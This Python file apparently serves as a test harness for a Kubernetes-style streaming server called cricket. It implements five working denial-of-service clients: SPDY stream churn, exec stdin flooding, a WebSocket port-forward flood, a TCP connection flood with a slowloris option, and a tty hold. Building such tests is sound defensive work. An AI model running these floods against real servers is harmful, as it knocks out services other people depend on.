"""Hostile clients of cricket's streaming server: each subcommand is one attack that a user holding
pods/exec or pods/portforward on one pod (or anyone on the node, for the connection flood) could run.

Every attack prints one JSON line {"event": "started", ...} once it is under way, keeps going for
--seconds, then prints a summary line {"event": "done", ...} and exits 0. Sends never block for long:
a server that stops reading (backpressure) slows the attack down instead of hanging it. Built on the
independent SPDY client beside it (spdy_client.py); shares no code with the server.
"""

import argparse
import json
import os
import resource
import select
import socket
import struct
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import spdy_client  # noqa: E402


def emit(obj):
    print(json.dumps(obj), flush=True)


def send_some(sock, data, timeout):
    """Sends what the socket takes within `timeout` seconds; returns the number of bytes sent."""
    sent = 0
    deadline = time.time() + timeout
    view = memoryview(data)
    while sent < len(data):
        left = deadline - time.time()
        if left <= 0:
            break
        _, writable, _ = select.select([], [sock], [], left)
        if not writable:
            break
        try:
            n = sock.send(view[sent:], socket.MSG_DONTWAIT)
        except BlockingIOError:
            continue
        except OSError:
            break
        sent += n
    return sent


def drain(sock):
    """Reads and discards whatever the server sent; returns False once it closed the connection."""
    while True:
        try:
            chunk = sock.recv(1 << 20, socket.MSG_DONTWAIT)
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        if not chunk:
            return False


def spdy_frame_data(sid, data, fin=False):
    return struct.pack(">II", sid, ((1 if fin else 0) << 24) | len(data)) + data


# -- 1. port-forward stream churn: open and reset stream pairs on one connection as fast as possible.

def attack_pf_churn(args):
    _, conn = spdy_client.spdy_upgrade(args.url, ["portforward.k8s.io"])
    sock = conn.t.sock
    sock.setblocking(False)
    emit({"event": "started"})
    deadline = time.time() + args.seconds
    pairs = 0
    alive = True
    while time.time() < deadline and alive:
        batch = b""
        for _ in range(64):
            rid = str(pairs)
            for stream_type in ("error", "data"):
                sid = conn.next_id
                conn.next_id += 2
                payload = struct.pack(">IIBB", sid, 0, 0, 0) + conn._header_block(
                    {"streamType": stream_type, "port": args.port, "requestID": rid})
                batch += conn._control(spdy_client.SYN_STREAM, 0, payload)
            if not args.hold:
                batch += conn._control(spdy_client.RST_STREAM, 0, struct.pack(">II", sid - 2, 5))
                batch += conn._control(spdy_client.RST_STREAM, 0, struct.pack(">II", sid, 5))
            pairs += 1
        if send_some(sock, batch, 5.0) < len(batch):
            break  # the server stopped reading: a partial frame is on the wire, the attack is over
        alive = drain(sock)
    emit({"event": "done", "pairs": pairs, "server_closed": not alive})


# -- 2. exec stdin before the session starts: open only the stdin stream and write into it.

def attack_exec_prestart(args):
    _, conn = spdy_client.spdy_upgrade(args.url, ["v4.channel.k8s.io"])
    sock = conn.t.sock
    sid = conn.open_stream({"streamType": "stdin"})
    sock.setblocking(False)
    emit({"event": "started"})
    chunk = spdy_frame_data(sid, b"x" * 65536)
    deadline = time.time() + args.seconds
    sent = 0
    alive = True
    while time.time() < deadline and alive:
        n = send_some(sock, chunk, 0.2)
        sent += n
        if 0 < n < len(chunk):
            # Finish the partial frame before the next one, however long the server takes.
            sent += send_some(sock, chunk[n:], max(0.1, deadline - time.time()))
        alive = drain(sock)
    emit({"event": "done", "sent": sent, "server_closed": not alive})


# -- 3. WebSocket port-forward into a pod listener that never reads.

def ws_upgrade(url, protocol, query=""):
    u = urllib.parse.urlsplit(url)
    headers = [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"),
               ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="), ("Sec-WebSocket-Protocol", protocol)]
    target = url + ("?" + query if query else "")
    status, resp, sock, rest = spdy_client.http_upgrade(target, headers, method="GET")
    if status != 101:
        raise spdy_client.UpgradeError(status, resp, rest)
    return sock


def attack_ws_pf_flood(args):
    sock = ws_upgrade(args.url, "v4.channel.k8s.io", "port=%d" % args.port)
    sock.setblocking(False)
    emit({"event": "started"})
    # Channel 0 carries data for the port: 64 KiB messages, the channel byte first, masked with the
    # all-zero key (a valid mask that leaves the payload as it is).
    body = b"\x00" + b"y" * 65535
    frame = bytes([0x82, 0x80 | 127]) + struct.pack(">Q", len(body)) + b"\x00\x00\x00\x00" + body
    deadline = time.time() + args.seconds
    sent = 0
    alive = True
    while time.time() < deadline and alive:
        n = send_some(sock, frame, 0.2)
        sent += n
        if 0 < n < len(frame):
            sent += send_some(sock, frame[n:], max(0.1, deadline - time.time()))
        alive = drain(sock)
    emit({"event": "done", "sent": sent, "server_closed": not alive})


# -- 4. connection flood: many idle TCP connections that never present a token, reopened when dropped.

def attack_conn_flood(args):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, args.count + 64)), hard))
    u = urllib.parse.urlsplit(args.url)
    addr = (u.hostname, u.port)
    socks = []
    opened = dropped = failed = 0
    started = False
    deadline = time.time() + args.seconds
    poller = select.poll()
    by_fd = {}
    while time.time() < deadline:
        while len(socks) < args.count and time.time() < deadline:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect(addr)
            except BlockingIOError:
                pass
            except OSError:
                failed += 1
                s.close()
                break
            if args.slowloris:
                try:
                    s.send(b"G")
                except OSError:
                    pass
            socks.append(s)
            by_fd[s.fileno()] = s
            poller.register(s.fileno(), select.POLLIN)
            opened += 1
        if not started:
            emit({"event": "started", "open": len(socks)})
            started = True
        for fd, _ in poller.poll(50):
            s = by_fd.pop(fd, None)
            if s is None:
                continue
            poller.unregister(fd)
            socks.remove(s)
            s.close()
            dropped += 1
    emit({"event": "done", "opened": opened, "dropped_by_server": dropped, "connect_failures": failed,
          "open_at_end": len(socks)})
    for s in socks:
        s.close()


# -- 5. a tty exec held open under the test's control (the test plays pid reuse meanwhile).

def attack_tty_hold(args):
    """Opens a tty exec (v4), waits for --ready on stdout, then obeys lines on its own stdin:
    "send <text>" writes text + newline to the session's stdin, "drop" closes the connection without a
    goodbye (the session is cancelled) and exits."""
    _, conn = spdy_client.spdy_upgrade(args.url, ["v4.channel.k8s.io"])
    streams = {name: conn.open_stream({"streamType": name}) for name in ("error", "stdin", "stdout", "resize")}
    conn.wait(lambda: args.ready.encode() in conn.data[streams["stdout"]], 20)
    emit({"event": "started"})
    for line in sys.stdin:
        verb, _, rest = line.strip().partition(" ")
        if verb == "send":
            conn.send_data(streams["stdin"], rest.encode() + b"\n")
            conn.pump(0.1)
            emit({"event": "sent"})
        elif verb == "drop":
            break
    conn.close()
    emit({"event": "done"})


def main():
    p = argparse.ArgumentParser(description=__doc__)
    sub = p.add_subparsers(dest="attack", required=True)
    for name in ("pf-churn", "exec-prestart", "ws-pf-flood", "conn-flood", "tty-hold"):
        a = sub.add_parser(name)
        a.add_argument("url")
        a.add_argument("--seconds", type=float, default=5)
        if name in ("pf-churn", "ws-pf-flood"):
            a.add_argument("--port", type=int, required=True)
        if name == "pf-churn":
            a.add_argument("--hold", action="store_true", help="keep the pairs open instead of resetting them")
        if name == "conn-flood":
            a.add_argument("--count", type=int, default=1000)
            a.add_argument("--slowloris", action="store_true", help="send one byte on each connection")
        if name == "tty-hold":
            a.add_argument("--ready", required=True)
    args = p.parse_args()
    handler = {"pf-churn": attack_pf_churn, "exec-prestart": attack_exec_prestart,
               "ws-pf-flood": attack_ws_pf_flood, "conn-flood": attack_conn_flood,
               "tty-hold": attack_tty_hold}[args.attack]
    try:
        handler(args)
    except spdy_client.UpgradeError as e:
        emit({"event": "error", "status": e.status, "body": e.body.decode("utf-8", "replace")})
    except Exception as e:  # the summary line is what the test reads
        emit({"event": "error", "status": 0, "exception": "%s: %s" % (type(e).__name__, e)})
    return 0


if __name__ == "__main__":
    sys.exit(main())
